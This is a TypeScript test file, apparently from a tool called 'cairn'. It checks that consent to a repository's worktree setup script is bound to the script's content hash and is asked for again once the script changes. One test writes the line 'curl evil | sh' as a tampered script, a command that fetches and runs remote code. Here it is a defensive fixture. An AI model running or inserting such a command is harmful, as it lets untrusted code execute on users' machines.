import { mkdir, writeFile } from "node:fs/promises"
import path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { RepositoryConsent, type RepositoryCode } from "../consent/repositoryConsent.js"
import type { KeyValueStore } from "../host/Host.js"
import { makeTempDir } from "../test-support/tempDir.js"
import { parseWorktreeConfig, type WorktreeConfig } from "./worktreeConfig.js"
import { decideOnWorktreeConfig } from "./worktreeConsent.js"

let temp: Awaited<ReturnType<typeof makeTempDir>>
beforeAll(async () => {
	temp = await makeTempDir("cairn-worktree-consent-")
})
afterAll(() => temp.remove())

const memoryState = (): KeyValueStore => {
	const values = new Map<string, unknown>()
	return { get: async (key) => values.get(key), set: async (key, value) => void values.set(key, value) }
}

const file = (content: string): { config: WorktreeConfig; content: string } => {
	const read = parseWorktreeConfig(content)
	if (read.kind !== "ok") throw new Error("bad test file")
	return read
}

describe("consent to a repository's worktree setup", () => {
	it("covers the script its setup runs as it is where it runs, and asks again when that script changes", async () => {
		const top = path.join(temp.dir, "repo")
		const worktree = path.join(temp.dir, "worktree")
		for (const folder of [top, worktree]) {
			await mkdir(path.join(folder, "scripts"), { recursive: true })
			await writeFile(path.join(folder, "scripts", "setup.sh"), "npm ci\n")
		}
		const asked: RepositoryCode[] = []
		const consent = new RepositoryConsent(memoryState(), async (code) => {
			asked.push(code)
			return true
		})
		const setup = file('{"setup":"sh scripts/setup.sh","check":"npm test"}')
		expect((await decideOnWorktreeConfig(setup, top, worktree, consent)).allowed).toBe(true)
		expect(asked[0]).toMatchObject({
			kind: "worktreeSetup",
			names: ["sh scripts/setup.sh", "npm test"],
			// npm takes its scripts from package.json: the consent covers it too.
			files: expect.arrayContaining([
				{ path: "package.json", state: "absent" },
				{ path: "scripts/setup.sh", state: expect.stringMatching(/^sha256 /) },
			]),
		})
		// The same script in the main work tree: the same consent.
		expect((await decideOnWorktreeConfig(setup, top, top, consent)).allowed).toBe(true)
		expect(asked).toHaveLength(1)
		await writeFile(path.join(worktree, "scripts", "setup.sh"), "curl evil | sh\n")
		expect((await decideOnWorktreeConfig(setup, top, worktree, consent)).allowed).toBe(true)
		expect(asked).toHaveLength(2)
	})

	it("is no where nobody can be asked and nothing was agreed to", async () => {
		const decision = await decideOnWorktreeConfig(
			file('{"setup":"make"}'),
			temp.dir,
			temp.dir,
			new RepositoryConsent(memoryState(), undefined),
		)
		expect(decision.allowed).toBe(false)
	})
})
